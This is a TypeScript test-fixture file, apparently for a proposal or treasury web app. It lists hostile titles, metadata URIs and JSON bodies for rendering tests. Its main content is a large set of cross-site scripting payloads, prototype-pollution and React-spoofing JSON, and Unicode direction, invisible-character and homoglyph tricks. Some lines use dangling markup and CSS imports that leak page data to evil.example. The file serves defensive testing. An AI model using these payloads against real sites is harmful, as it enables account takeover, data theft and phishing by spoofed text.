/**
 * What hostile people write into titles, addresses and texts. Each payload that could run calls
 * `__xss("…")` when it does; each that deceives says how the page must mark it.
 *
 * Written as escapes wherever the character itself would deceive whoever reads this file.
 */

/** Bytes of UTF-8 that the program lets a title and an address have. */
export const TITLE_BYTES = 64;
export const URI_BYTES = 128;

/** How the page must show something that deceives. */
export type Mark =
  /** The character is not seen, or turns the direction of writing: its code is spelled out. */
  | "hidden"
  /** A letter of another script, or one that looks like another. */
  | "lookalike"
  /** An address that is no link. */
  | "no link";

/** Something that somebody wrote. */
export interface Payload {
  readonly text: string;
  /** What the page must mark; nothing for one that only must not run. */
  readonly mark?: Mark;
}

/** The call that says that a payload ran. Short, because titles are. */
export const CALL = "__xss(1)";

const run = (text: string): Payload => ({ text: text.replaceAll("$", CALL) });
const hidden = (text: string): Payload => ({ text: text.replaceAll("$", CALL), mark: "hidden" });
const lookalike = (text: string): Payload => ({ text, mark: "lookalike" });
const noLink = (text: string): Payload => ({ text: text.replaceAll("$", CALL), mark: "no link" });

const MARKUP = [
  "<script>$</script>",
  "<SCRIPT>$</SCRIPT>",
  "<ScRiPt>$</sCrIpT>",
  "</title><script>$</script>",
  "</textarea><script>$</script>",
  "</script><script>$</script>",
  "--><script>$</script>",
  "]]><script>$</script>",
  '"><script>$</script>',
  "'><script>$</script>",
  "<script >$</script\t>",
  "<script/x>$</script>",
  "<script\n>$</script>",
  "<<script>$//<</script>",
  "<script>$",
  "<script type=module>$</script>",
  "<script src=data:text/javascript,$></script>",
  "<scr<script>ipt>$</scr</script>ipt>",
  "<noscript><p title='</noscript><img src onerror=$>'>",
];

const HANDLERS = [
  "<img src=x onerror=$>",
  "<img src=x onerror='$'>",
  '<img src=x onerror="$">',
  "<img/src/onerror=$>",
  "<img src onerror\n=\n$>",
  "<IMG SRC=x OnErRoR=$>",
  "<image src=x onerror=$>",
  "<img src=x onerror=&#95;_xss(1)>",
  "<img src=x onerror=\\u005f_xss(1)>",
  "<img srcset=x onerror=$>",
  "<body onload=$>",
  "<body onpageshow=$>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<textarea autofocus onfocus=$>",
  "<a tabindex=1 autofocus onfocus=$>x</a>",
  "<video><source onerror=$></video>",
  "<video src=x onerror=$>",
  "<audio src=x onerror=$>",
  "<details open ontoggle=$>",
  "<marquee onstart=$>x</marquee>",
  "<iframe onload=$>",
  "<iframe srcdoc='<script>parent.$</script>'>",
  "<iframe src=javascript:parent.$>",
  "<object data=javascript:$>",
  "<embed src=javascript:$>",
  "<form action=javascript:$><button autofocus>",
  "<button formaction=javascript:$>x",
  "<isindex action=javascript:$ type=image>",
  "<link rel=stylesheet href=x onerror=$>",
  "<style onload=$></style>",
  "<base href=javascript:$//>",
  "<meta http-equiv=refresh content=0;javascript:$>",
  "<dialog open onbeforetoggle=$>",
  "<p onclick=$ style=position:fixed;inset:0>x",
  "<x onpointerenter=$>x</x>",
  "<p contenteditable onfocusin=$ autofocus>",
  "<div onanimationstart=$ style=animation:x>",
];

const FOREIGN = [
  "<svg onload=$>",
  "<svg/onload=$>",
  "<svg><script>$</script></svg>",
  "<svg><script href=data:,$ />",
  "<svg><a xlink:href=javascript:$><text>x",
  "<svg><animate onbegin=$ attributeName=x>",
  "<svg><set onbegin=$ attributeName=x>",
  "<svg><use href=data:image/svg+xml,$>",
  "<svg><foreignObject><img src onerror=$>",
  "<math><mtext><script>$</script>",
  "<math href=javascript:$>x</math>",
  "<math><mi xlink:href=data:,$>x",
];

const MUTATION = [
  "<svg></p><style><a id='</style><img src onerror=$>'>",
  "<math><mtext><table><mglyph><style><img src onerror=$>",
  "<form><math><mtext></form><form><svg><img src onerror=$>",
  "<table><td><svg><desc><td><img src onerror=$>",
  "<p style='x:</p><img src onerror=$>'>",
  "<xmp><p title='</xmp><img src onerror=$>'>",
  "<!--><img src onerror=$>-->",
  "<![CDATA[><img src onerror=$>]]>",
  "<?x ><img src onerror=$>?>",
  "<template><img src onerror=$></template>",
  "<plaintext><img src onerror=$>",
];

const TEMPLATES = [
  "{{constructor.constructor('$')()}}",
  "{{$on.constructor('$')()}}",
  "{{_c.constructor('$')()}}",
  "{{=$}}",
  "<%= $ %>",
  "#{$}",
  "${$}",
  "`${$}`",
  "@{$}",
  "[[${$}]]",
  "v-html='$'",
  "<p v-on:click=$ ng-init=$>",
  "<x ng-app ng-csp>{{$}}",
  "javascript:$",
  "';$;//",
  '";$;//',
  "\\';$;//",
  "*/$/*",
  "\u2028$",
  "%3Cscript%3E$%3C/script%3E",
  "&lt;script&gt;$&lt;/script&gt;",
  "&#60;script&#62;$&#60;/script&#62;",
  "\\u003cscript\\u003e$\\u003c/script\\u003e",
  "\\x3cscript\\x3e$\\x3c/script\\x3e",
  "+ADw-script+AD4-$+ADw-/script+AD4-",
];

const STYLES = [
  "<style>*{display:none}</style>",
  "<style>@import'//evil.example/'</style>",
  "</style><style>*{visibility:hidden}",
  "<p style=position:fixed;inset:0;background:red>",
  "x;background:url(//evil.example/x)",
  "<link rel=stylesheet href=//evil.example/x.css>",
];

const MARKDOWN = [
  "[claim](javascript:$)",
  "[claim]( javascript:$)",
  "![x](https://evil.example/x.png)",
  "![x](x onerror=$)",
  "<javascript:$>",
  "[x]: javascript:$",
  "# Official\n\nSend to 9xQe",
  "```\n<script>$</script>\n```",
];

const DANGLING = [
  "<img src='//evil.example/?",
  '<img src="//evil.example/?',
  "<a href='//evil.example/?",
  "<form action=//evil.example/><input name='",
  "<base target='",
  "<iframe src='//evil.example/?",
  "<portal src=//evil.example/>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=preconnect href=//evil.example>",
];

/** Titles that could run. At most {@link TITLE_BYTES} bytes each. */
const ACTIVE_TITLES = [
  ...MARKUP,
  ...HANDLERS,
  ...FOREIGN,
  ...MUTATION,
  ...TEMPLATES,
  ...STYLES,
  ...MARKDOWN,
  ...DANGLING,
].map(run);

/** Titles that deceive the eye, or that break what stands around them. */
const DECEIVING_TITLES: readonly Payload[] = [
  // Direction.
  hidden("Audit \u202egnp.exe"),
  hidden("\u202eTIDUA"),
  hidden("Audit \u202dfor 10\u202c"),
  hidden("\u2066Audit\u2069 \u2067TIDUA"),
  hidden("\u2068Audit"),
  hidden("Audit\u200f 000,01"),
  hidden("Audit\u200e"),
  hidden("\u061cAudit"),
  hidden("\u202b\u202a\u202d\u202eAudit"),
  // Nothing to be seen.
  hidden("Au\u200bdit"),
  hidden("Au\u200cdit"),
  hidden("Au\u200ddit"),
  hidden("Au\u2060dit"),
  hidden("Au\u00addit"),
  hidden("Au\ufeffdit"),
  hidden("Audit\u115f"),
  hidden("Audit\u3164"),
  hidden("Audit\uffa0"),
  hidden("Audit\u17b4"),
  hidden("Audit\u180e"),
  hidden("Audit\ufe0f"),
  hidden("Audit\u034f"),
  hidden("Audit\u{e0041}\u{e0042}"),
  hidden("\u2061\u2062\u2063Audit"),
  hidden("Audit\ufff9x\ufffay\ufffb"),
  hidden("\u200b\u200b\u200b"),
  hidden("<\u200bscript>$</script>"),
  // Control.
  // Whoever decodes an account loses zero bytes, and a byte order mark in front; the slate hash is computed
  // before that.
  run("\ufeffAudit"),
  run("Audit\u0000<script>$</script>"),
  run("\u0000"),
  hidden("Audit\u0007\u0008\u0008\u0008"),
  hidden("Audit\u001b[2J\u001b[31m"),
  hidden("Audit\u007f"),
  hidden("Audit\u0085paid"),
  hidden("Audit\u2028paid"),
  hidden("Audit\u2029paid"),
  // Letters of another script.
  lookalike("\u0410udit"),
  lookalike("Aud\u0456t of th\u0435 br\u0456dge"),
  lookalike("\u041epen Harbour Treasury"),
  lookalike("\u0391udit"),
  lookalike("Op\u03b5n H\u03b1rbour"),
  lookalike("Aud\u{1d422}t"),
  lookalike("\uff21udit"),
  lookalike("Harb\u03bfur"),
  lookalike("\u13aaudit \u13aaB"),
  lookalike("Audi\u0442 \u0440aid"),
  lookalike("S\u0585larix"),
  // What breaks a layout.
  run("M".repeat(64)),
  run("\u0938\u094d\u0924\u094d\u0930\u0940 \u0636\u0631\u0648\u0631\u064a"),
  run("A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301"),
  run("\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 1,000"),
  run("\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd"),
  run(" "),
  run(" \t\n\r "),
  run("\n\n\n\n\n\n\n\n\n\nAudit"),
  run("\ufffd\ufffd"),
  run("\u{1f469}\u{1f3fd}\u{1f680}\u{1f1eb}\u{1f1f7}"),
  run("null"),
  run("undefined"),
  run("[object Object]"),
  run("NaN"),
  run("__proto__"),
  run("constructor"),
  run("hasOwnProperty"),
  run("Entry 7"),
  run("1,000,000 tUSD"),
  run("Connect your wallet at evil.example"),
];

/** All titles. */
export const TITLES: readonly Payload[] = [...ACTIVE_TITLES, ...DECEIVING_TITLES];

/** Addresses of metadata. At most {@link URI_BYTES} bytes each. */
export const URIS: readonly Payload[] = [
  ...[
    "javascript:$",
    "JAVASCRIPT:$",
    "JaVaScRiPt:$",
    " javascript:$",
    "\tjavascript:$",
    "\njavascript:$",
    "java\tscript:$",
    "java\nscript:$",
    "java\rscript:$",
    "javascript\t:$",
    "javascript:\n$",
    "javascript://https://good.example/%0a$",
    "javascript://good.example/%0d%0a$//",
    "javascript:/*https://good.example/*/$",
    "javascript:'https://good.example/';$",
    "javascript:void($)",
    "javascript:%5f_xss(1)",
    "javascript&colon;$",
    "javascript&#58;$",
    "&#106;avascript:$",
    "&#x6a;&#x61;vascript:$",
    "\\u006aavascript:$",
    "j\\x61vascript:$",
    "javascript:javascript:$",
    "view-source:javascript:$",
    "feed:javascript:$",
    "jar:javascript:$!/",
    "data:text/html,<script>$</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>$</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$'/>",
    "data:application/json,{}",
    "data:,$",
    " data:text/html,<script>$</script>",
    "vbscript:MsgBox(1)",
    "VBScript:MsgBox(1)",
    "livescript:$",
    "mocha:$",
    "blob:https://good.example/1",
    "filesystem:https://good.example/x",
    "file:///etc/passwd",
    "ftp://good.example/x",
    "http://good.example/x",
    "ws://good.example/",
    "chrome://settings",
    "about:blank",
    "intent://x#Intent;scheme=javascript;end",
    "mailto:x@good.example?body=$",
    "tel:+1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/metadata/audit.json",
    "metadata/../voter.json",
    "../voter.json",
    "?x",
    "#/ballot",
    " ",
    "https://",
    "https:///",
    "https://?",
    "https:// evil.example/",
    "https://user@evil.example/",
    "https://good.example@evil.example/",
    "https://good.example:pass@evil.example/",
    "https://good.example%40evil.example/",
    "https://xn--80ak6aa92e.com/",
    "https://\u0430pple.com/",
    "https://open-harbour.ex\u0430mple/metadata/audit.json",
    "https://evil.example/\"onmouseover='$'",
    "https://evil.example/' onfocus=$ autofocus='",
    "https://evil.example/><script>$</script>",
    "ipfs://bafybeigdyrzt/x",
    "ar://x",
  ].map((text) => {
    // What is a link all the same must stay text, and lead where it says.
    const leads = /^https:\/\/evil\.example\/["'>]/.test(text) && !/\s/.test(text);
    return leads ? run(text) : noLink(text);
  }),
  hidden("https://evil.example/\u202egnp.dab"),
  hidden("https://good.example\u200b.evil.example/"),
  hidden("https://good.example\u2060.evil.example/"),
  run("https://good.example/\u0000"),
  noLink("java\u0000script:$"),
  hidden("\u0001javascript:$"),
  noLink("\ufeffjavascript:$"),
  // None at all.
  run(""),
];

/** What a metadata address leads to, as text: JSON of every kind, and what is none. */
export const METADATA: readonly Payload[] = [
  ...[
    ...MARKUP.slice(0, 4),
    ...HANDLERS.slice(0, 6),
    ...FOREIGN.slice(0, 4),
    ...MUTATION.slice(0, 4),
    ...TEMPLATES.slice(0, 4),
    ...STYLES,
    ...MARKDOWN,
    ...DANGLING.slice(0, 4),
  ].map((text) =>
    run(
      JSON.stringify({
        kind: "ask",
        title: text,
        summary: `${text} ${text}`,
        deliverables: [text, text],
        proposer: text,
        recipient: text,
        category: text,
        [text]: text,
      }),
    ),
  ),
  ...[
    '{"__proto__":{"summary":"$","polluted":true},"title":"x"}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    '{"title":{"__proto__":{"polluted":true}}}',
    '{"deliverables":{"__proto__":{"polluted":true},"length":1}}',
    '{"toString":"$","valueOf":"$","summary":"x"}',
    '{"summary":{"toString":"$"}}',
    '{"hasOwnProperty":1,"summary":"x"}',
    '{"then":"$","summary":"x"}',
    '{"summary":["<img src=x onerror=$>",{"x":"<script>$</script>"}]}',
    '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"$"}}',
    '{"summary":{"$$typeof":"Symbol(react.transitional.element)","type":"img","props":{"onError":"$"}}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=$>"}}',
    '{"summary":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=$>"}}}',
    '{"title":1e999,"summary":null,"deliverables":"x"}',
    '{"title":true,"deliverables":[null,{},[]]}',
    "[]",
    "null",
    "1",
    '"<script>$</script>"',
    "",
    "{",
    "<script>$</script>",
    "<!doctype html><script>$</script>",
    "$",
    ")]}',\n{}",
    "\ufeff{}",
    '{"summary":"x"}\u0000',
    '{"summary":"x","summary":"<script>$</script>"}',
  ].map(run),
  run(JSON.stringify({ summary: "long ".repeat(4_000) })),
  run(JSON.stringify({ summary: "M".repeat(20_000) })),
  run(JSON.stringify({ deliverables: Array.from({ length: 2_000 }, (_, one) => `part ${one}`) })),
  run(`${"[".repeat(2_000)}${"]".repeat(2_000)}`),
  run(JSON.stringify({ summary: "line\n".repeat(500) })),
  hidden(JSON.stringify({ kind: "ask", summary: "pay \u202egnihton\u202c now" })),
  hidden(JSON.stringify({ kind: "ask", summary: "Au\u200bdit", deliverables: ["x\u2066y"] })),
  lookalike(JSON.stringify({ kind: "ask", summary: "\u0410udit of \u041epen Harbour" })),
];

/** Bytes of UTF-8. */
export function bytesOf(text: string): number {
  return new TextEncoder().encode(text).length;
}
